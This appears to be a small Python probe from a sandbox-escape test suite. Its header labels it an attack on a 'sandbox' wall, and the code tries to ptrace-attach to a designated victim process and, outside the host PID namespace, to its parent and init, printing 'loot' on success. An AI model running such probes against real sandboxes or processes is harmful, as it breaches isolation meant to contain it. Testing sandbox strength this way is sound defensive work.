# attacks: compression
# wall: sandbox
# loot: prints -- ptrace, and process_vm_readv
import ctypes
import os

libc, PTRACE_SEIZE, PTRACE_DETACH = ctypes.CDLL(None, use_errno=True), 0x4206, 17
for pid in {host["victim"], *([os.getppid(), 1] if os.readlink("/proc/self/ns/pid") != host["pid_namespace"] else [])} - {os.getpid(), 0}:
    if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
        print("loot: attached to", pid)
        libc.ptrace(PTRACE_DETACH, pid, 0, 0)
